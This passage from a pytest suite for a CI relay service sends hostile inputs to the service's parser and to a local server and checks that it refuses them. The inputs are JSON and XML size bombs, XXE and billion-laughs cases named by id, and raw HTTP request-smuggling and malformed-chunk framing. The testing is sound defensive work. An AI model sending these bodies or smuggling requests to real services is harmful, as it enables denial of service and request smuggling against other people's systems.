peak = tracemalloc.get_traced_memory()[1]
tracemalloc.stop()
rss_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({
    "status": response.status_code,
    "answer": response.get_json(silent=True),
    "answer_bytes": len(response.get_data()),
    "peak": peak,
    "rss_growth_kib": rss_after - rss_before,
    "new_rows": {name: n - before[name] for name, n in counts(engine).items()},
}))
"""


def _fill(prefix: bytes, item: bytes, separator: bytes, suffix: bytes) -> bytes:
    """``prefix`` + as many ``item``s as fit under the cap + ``suffix``."""
    room = CAP - len(prefix) - len(suffix)
    count = (room + len(separator)) // (len(item) + len(separator))
    body = prefix + separator.join([item] * count) + suffix
    assert len(body) <= CAP
    return body


def _many_keys() -> bytes:
    parts, size, i = [], 2, 0
    while size + 12 < CAP:
        part = f'"k{i}":1'.encode()
        parts.append(part)
        size += len(part) + 1
        i += 1
    return b"{" + b",".join(parts) + b"}"


def _many_attributes() -> bytes:
    parts, size, i = [], 14, 0
    while size + 12 < CAP:
        part = f'a{i}="1"'.encode()
        parts.append(part)
        size += len(part) + 1
        i += 1
    return b"<Response " + b" ".join(parts) + b"/>"


_ATTRIBUTED_DETAIL = b"<JobsDetail " + b" ".join(b'a%d="1"' % i for i in range(16)) + b"/>"

BOMBS = {
    "json-array-of-empty-objects": (
        lambda: _fill(b'{"JobsDetail":[', b"{}", b",", b"]}"),
        JSON,
    ),
    "json-array-of-numbers": (lambda: _fill(b'{"JobsDetail":[', b"1", b",", b"]}"), JSON),
    "json-eventname-array": (lambda: _fill(b'{"EventName":[', b"1", b",", b"]}"), JSON),
    "json-many-keys": (_many_keys, JSON),
    "xml-many-empty-jobsdetail": (
        lambda: _fill(b"<Response>", b"<JobsDetail/>", b"", b"</Response>"),
        XML,
    ),
    "xml-many-unknown-elements": (lambda: _fill(b"<Response>", b"<a/>", b"", b"</Response>"), XML),
    "xml-many-attributes": (_many_attributes, XML),
    # issue 14 §2: inside the old caps (5,000 elements, 16 attributes each), 100 s of CPU
    "xml-5000-jobsdetail-with-16-attributes": (
        lambda: b"<Response>" + _ATTRIBUTED_DETAIL * 4999 + b"</Response>",
        XML,
    ),
}


@pytest.fixture(scope="module")
def bomb_runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One child process per bomb, all started at once (the CPU guard is CPU time, so
    running side by side cannot make one fail)."""
    directory = tmp_path_factory.mktemp("bombs")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    runs: dict[str, Any] = {}
    for name, (build, content_type) in BOMBS.items():
        body_path = directory / f"{name}.body"
        body_path.write_bytes(build())
        runs[name] = subprocess.Popen(
            [
                sys.executable,
                "-c",
                _CHILD,
                str(body_path),
                content_type,
                str(directory / f"{name}.db"),
                str(CPU_GUARD),
            ],
            cwd=ROOT,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
    yield runs
    for process in runs.values():
        if process.poll() is None:
            process.kill()
        process.communicate()


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_body_with_many_violations_is_answered_in_bounded_cpu_and_memory(
    bomb_runs: dict[str, Any], bomb: str
) -> None:
    process = bomb_runs[bomb]
    try:
        stdout, stderr = process.communicate(timeout=CPU_GUARD * len(BOMBS) * 3)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        pytest.fail(f"{bomb}: no answer (hang)")
    verdict = f"more than {CPU_GUARD} CPU-seconds" if process.returncode == -24 else "see stderr"
    assert process.returncode == 0, (
        f"{bomb}: the child died (returncode {process.returncode}: {verdict})\n{stderr[-3000:]}"
    )
    result = json.loads(stdout.strip().splitlines()[-1])
    assert result["peak"] < MEMORY_BOUND, f"peak {result['peak'] / MB:.1f} MiB"
    assert result["rss_growth_kib"] * 1024 < 4 * MEMORY_BOUND
    assert result["status"] == 400, result
    assert result["answer"]["error"] in (MALFORMED, INVALID)
    assert result["answer_bytes"] <= CAP, "the answer is larger than the largest request"
    assert result["new_rows"]["quarantined_notifications"] == 1
    assert result["new_rows"]["jobs"] == result["new_rows"]["notifications"] == 0


# --- a real server --------------------------------------------------------------------------

API_KEY = "served-api-key-0123456789"
CALLBACK_KEY = "served-callback-key-0123456789"
QUEUE_SECRET = "served-queue-secret-0123456789"


@dataclass
class Served:
    base: str
    port: int
    log: Path

    @property
    def queue_url(self) -> str:
        return f"{self.base}/callbacks/ci/queue/{QUEUE_SECRET}"

    def healthy(self) -> bool:
        return requests.get(f"{self.base}/healthz", timeout=30).status_code == 200


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    directory = tmp_path_factory.mktemp("served")
    port = _free_port()
    log = directory / "server.log"
    env = {
        **os.environ,
        "CIRELAY_DATABASE_URL": f"sqlite:///{directory / 'cirelay.db'}",
        "CIRELAY_API_KEYS": API_KEY,
        "CIRELAY_CALLBACK_KEYS": CALLBACK_KEY,
        "CIRELAY_QUEUE_CALLBACK_SECRET": QUEUE_SECRET,
        "PROMETHEUS_MULTIPROC_DIR": str(directory / "prometheus"),
        "PYTHONPATH": str(ROOT),
    }
    with log.open("wb") as out:
        process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "app.cli",
                "serve",
                "--host",
                "127.0.0.1",
                "--port",
                str(port),
                "--workers",
                "1",
            ],
            cwd=ROOT,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    server = Served(f"http://127.0.0.1:{port}", port, log)
    try:
        deadline = time.monotonic() + 120
        while True:
            assert process.poll() is None, log.read_text()[-3000:]
            try:
                if requests.get(f"{server.base}/readyz", timeout=5).status_code == 200:
                    break
            except requests.RequestException:
                pass
            assert time.monotonic() < deadline, "cirelay serve never became ready"
            time.sleep(0.2)
        yield server
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def _raw(port: int, request: bytes, *, half_close: bool = True) -> bytes:
    """Send ``request`` as is and read the first answer (the status line is enough)."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
        conn.sendall(request)
        if half_close:
            conn.shutdown(socket.SHUT_WR)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = conn.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer


def _raw_post(headers: str, body: bytes) -> bytes:
    head = (
        f"POST /callbacks/ci/queue/{QUEUE_SECRET} HTTP/1.1\r\nHost: cirelay.test\r\n"
        f"Content-Type: application/xml\r\n{headers}\r\n"
    )
    return head.encode() + body


def _status(answer: bytes) -> int:
    assert answer.startswith(b"HTTP/1."), answer[:200]
    return int(answer.split(b" ", 2)[1])


SERVED_CASES = [
    "xxe-file-etc-passwd",
    "xxe-http-external-dtd",
    "parameter-entity-out-of-band-exfiltration",
    "billion-laughs",
    "quadratic-blowup",
    "xml-nesting-20000-deep",
    "json-nesting-20000-deep-objects",
    "invalid-utf8-byte",
    "json-duplicate-keys",
    "content-type-text-plain-30mb",
    "body-30mb-content-length",
    "body-30mb-chunked",
    "date-february-30",
]


@pytest.mark.slow
@pytest.mark.parametrize("hostile_id", SERVED_CASES)
def test_real_server_answers_4xx_and_stays_healthy(
    served: Served, observers: Observers, hostile_id: str
) -> None:
    hostile = BY_ID[hostile_id]
    body = hostile.build(observers)
    headers = {"Content-Type": hostile.content_type or ""}
    data: Any = body
    if isinstance(body, VirtualBody):
        data = body.chunks() if hostile.chunked else body.read()

    response = requests.post(served.queue_url, data=data, headers=headers, timeout=120)

    assert response.status_code == hostile.status, response.text[:2000]
    assert response.json()["error"] == hostile.error
    assert PASSWD_LINE not in response.text and MARKER not in response.text
    observers.assert_untouched()
    assert served.healthy()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("request_bytes", "status"),
    [
        # says 5 bytes, sends the whole sample: the first 5 bytes are a malformed body (the
        # rest is a malformed next request, which gunicorn refuses)
        (_raw_post("Content-Length: 5\r\n", VALID.encode()), 400),
        # says 5000, sends 10 and closes its side: a truncated body
        (_raw_post("Content-Length: 5000\r\n", b"<Response>"), 400),
        # says 100 GB, sends a little: refused on the header alone
        (_raw_post("Content-Length: 99999999999\r\n", b"<Response/>"), 413),
        (_raw_post("Content-Length: -1\r\n", VALID.encode()), 400),
        (_raw_post("Content-Length: abc\r\n", VALID.encode()), 400),
        # request smuggling shape: both headers
        (
            _raw_post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
            400,
        ),
        # a chunk size that does not parse
        (_raw_post("Transfer-Encoding: chunked\r\n", b"zz\r\nabc\r\n0\r\n\r\n"), 400),
        # a chunk whose data is not followed by CRLF
        (_raw_post("Transfer-Encoding: chunked\r\n", b"5\r\n<ResponseXX\r\n0\r\n\r\n"), 400),
        # a trailer that is no header
        (
            _raw_post("Transfer-Encoding: chunked\r\n", b"3\r\n<R>\r\n0\r\nnot a header\r\n\r\n"),
            400,
        ),
    ],
    ids=[
        "content-length-smaller-than-body",
        "content-length-larger-than-body",
        "content-length-100-gb",
        "content-length-negative",
        "content-length-not-a-number",
        "content-length-and-chunked",
        "chunk-size-not-hex",
        "chunk-without-terminator",
        "chunked-trailer-not-a-header",
    ],
)
def test_real_server_answers_lying_framing_with_4xx(
    served: Served, request_bytes: bytes, status: int
) -> None:
    answer = _raw(served.port, request_bytes)
    assert _status(answer) == status, answer[:500]
    assert served.healthy()


def _metric(served: Served, sample: str) -> float:
    """One sample of the real server's /metrics (``name{labels}``), 0 when absent."""
    text = requests.get(f"{served.base}/metrics", timeout=30).text
    for line in text.splitlines():
        if line.startswith(sample + " "):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


def _event_count(served: Served) -> int:
    answer = requests.get(
        f"{served.base}/v1/events?limit=500",
        headers={"Authorization": f"Bearer {API_KEY}"},
        timeout=30,
    )
    assert answer.status_code == 200, answer.text
    return len(answer.json()["events"])


TRUNCATED = 'cirelay_notifications_total{outcome="truncated"}'
QUARANTINED = "cirelay_quarantine_size"


@pytest.mark.slow
@pytest.mark.parametrize("ending", ["half-close", "close"])
def test_real_server_records_nothing_for_a_truncated_body(served: Served, ending: str) -> None:
    """A client that sends half a valid notification and closes (or half-closes) its side
    broke the transfer: no quarantine row, no event, a 400 if it is still there to read it,
    counted as ``truncated``."""
    body = VALID.encode()
    request = _raw_post(f"Content-Length: {len(body)}\r\n", body[: len(body) // 2])
    truncated, quarantined, events = (
        _metric(served, TRUNCATED), _metric(served, QUARANTINED), _event_count(served)
    )  # fmt: skip

    if ending == "half-close":
        answer = _raw(served.port, request)
        assert _status(answer) == 400, answer[:500]
        assert b"Content-Length" in answer
    else:
        with socket.create_connection(("127.0.0.1", served.port), timeout=30) as conn:
            conn.sendall(request)

    deadline = time.monotonic() + 30
    while _metric(served, TRUNCATED) < truncated + 1:
        assert time.monotonic() < deadline, "the truncated body was never counted"
        time.sleep(0.1)
    assert _metric(served, QUARANTINED) == quarantined
    assert _event_count(served) == events
    assert served.healthy()
